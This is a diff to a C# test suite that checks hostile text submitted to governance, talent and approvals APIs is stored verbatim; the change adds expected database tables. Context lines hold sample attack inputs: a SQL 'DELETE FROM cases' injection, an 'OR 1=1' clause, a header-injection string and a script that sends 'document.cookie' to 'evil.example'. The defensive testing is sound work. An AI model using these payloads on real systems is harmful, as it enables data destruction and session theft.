@@ -372,7 +372,7 @@ public sealed class HostileTextIsStoredVerbatimTests(CorpusPlatformFixture fixtu
             "/api/governance/v1/cases/{id}",
             [("category", "'; DELETE FROM cases; --"), ("description", "<script>fetch('//evil.example/'+document.cookie)</script>\r\nX-Injected: 1"),
              ("photoRefs", new[] { "javascript:alert(1)" })],
-            "governance.cases", ["governance.outbox_messages", "governance.audit_log"]),
+            "governance.cases", ["governance.outbox_messages", "governance.audit_log", "governance.case_history"]),
         new("sql-and-template-injection-in-a-certification", "citizen", "/api/talent/v1/certifications",
             new
             {
@@ -394,7 +394,9 @@ public sealed class HostileTextIsStoredVerbatimTests(CorpusPlatformFixture fixtu
         new("script-in-a-reason-for-not-accepting", "clerk", A + "/{fresh}:not-accept",
             new { reason = "<script>alert(document.domain)</script> ' OR 1=1 --" },
             A + "/{fresh}", [("statusReason", "<script>alert(document.domain)</script> ' OR 1=1 --"), ("status", "APPLICATION_STATUS_NOT_ACCEPTED")],
-            "approvals.application_ledger", ["approvals.outbox_messages", "approvals.inbox_messages", "approvals.notifications", "approvals.audit_log"],
+            // talent reads every refusal to accept, for the claims it asked approvals to open
+            "approvals.application_ledger", ["approvals.outbox_messages", "approvals.inbox_messages", "approvals.notifications", "approvals.audit_log",
+                "talent.inbox_messages"],
             NeedsFreshApplication: true),
     ];
 
